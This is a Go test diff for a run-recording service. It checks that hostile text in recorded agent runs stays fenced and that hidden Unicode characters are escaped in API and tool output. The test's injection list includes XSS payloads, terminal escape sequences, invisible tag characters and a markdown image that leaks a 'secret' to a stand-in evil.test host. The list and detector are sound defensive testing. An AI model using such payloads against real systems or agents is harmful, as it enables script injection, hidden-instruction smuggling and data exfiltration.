@@ -51,6 +51,7 @@ var injections = []string{
 	// Characters.
 	"\x1b[2J\x1b[H# Run", "\x1b]0;title\a\x1b[31mred", "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\", "\x07\x08\x08\x08\x7f", "a\x00b",
 	"\u202eslaever\u202c reversed", "\u2066isolated\u2069", "zero\u200bwidth\u200d joined\ufeff", "tags \U000E0049\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065",
+	"smuggled \U000E0139\U000E0157\U000E015E",
 	"Z̸̡̛͍a̵l̶g̷o̸", "\ufffd\ufffe\U0010ffff", "🧑‍🚀🏴‍☠️", "\xc3\x28 not UTF-8 \xff",
 	// Markup.
 	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](http://evil.test/?q=secret)", "[click](javascript:alert(1))",
@@ -130,6 +131,9 @@ var (
 	stepLine = regexp.MustCompile(`^- step \d+ [0-9a-f]{16} [\p{L}\p{N}._:-]+ [\p{L}\p{N}._:-]* ?(error|running|cancelled)? ?(<(\d{6}) )?`)
 )
 
+// hidden are characters that are not seen, or that turn what follows around.
+var hidden = regexp.MustCompile(`[\x{202a}-\x{202e}\x{2066}-\x{2069}\x{e0000}-\x{e007f}\x{e0100}-\x{e01ef}]`)
+
 // requireFenced: recorded text begins with a mark, ends with the same one's end, and the mark is nowhere else but where the
 // view itself begins a text or leaves one out.
 func requireFenced(t *testing.T, recorded string) {
@@ -191,14 +195,17 @@ func TestRecordedTextStaysInItsFence(t *testing.T) {
 		}
 	}
 	ids := storeHostileRuns(t, address, project.Id)
+	var read []string
 	for _, id := range ids {
 		path := "/v1/runs/" + id.String() + "/agent-view?token_budget=8000"
 		w := e.do(t, http.MethodGet, path, nil, bearer(key))
 		require.Equal(t, http.StatusOK, w.Code, w.Body.String())
 		checkDocument(t, w.Body.Bytes())
+		read = append(read, w.Body.String())
 
 		w = e.do(t, http.MethodGet, path+"&format=text", nil, bearer(key))
 		require.Equal(t, http.StatusOK, w.Code)
+		read = append(read, w.Body.String())
 		for _, line := range strings.Split(strings.TrimSuffix(w.Body.String(), "\n"), "\n") {
 			require.True(t, ownLine.MatchString(line) || strings.HasPrefix(line, "| "), "%.200q", line)
 			require.NotContains(t, line, "\x1b")
@@ -214,12 +221,14 @@ func TestRecordedTextStaysInItsFence(t *testing.T) {
 
 		_, text := callTool[viewAnswer](t, client, "runs.read", map[string]any{"run_id": id.String(), "token_budget": 16_000})
 		checkDocument(t, []byte(text))
+		read = append(read, text)
 	}
 
 	seen := 0
 	tool, arguments := "runs.search", map[string]any{"limit": 20, "token_budget": 20_000}
 	for tool != "" {
-		found, _ := callTool[foundRuns](t, client, tool, arguments)
+		found, text := callTool[foundRuns](t, client, tool, arguments)
+		read = append(read, text)
 		for _, run := range found.Runs {
 			requireWords(t, run.Name, run.Status)
 			requireFenced(t, run.Recorded)
@@ -231,4 +240,12 @@ func TestRecordedTextStaysInItsFence(t *testing.T) {
 		}
 	}
 	assert.Equal(t, len(ids)+len(injections), seen)
+	for _, text := range read {
+		require.Empty(t, hidden.FindString(text))
+	}
+	all := strings.Join(read, "")
+	for _, escaped := range []string{`\u202eslaever\u202c reversed`, `\u2066isolated\u2069`, `tags \U000e0049\U000e0067`, `smuggled \U000e0139`} {
+		assert.Contains(t, all, escaped, "as Markdown")
+		assert.Contains(t, all, strings.ReplaceAll(escaped, `\`, `\\`), "in JSON")
+	}
 }
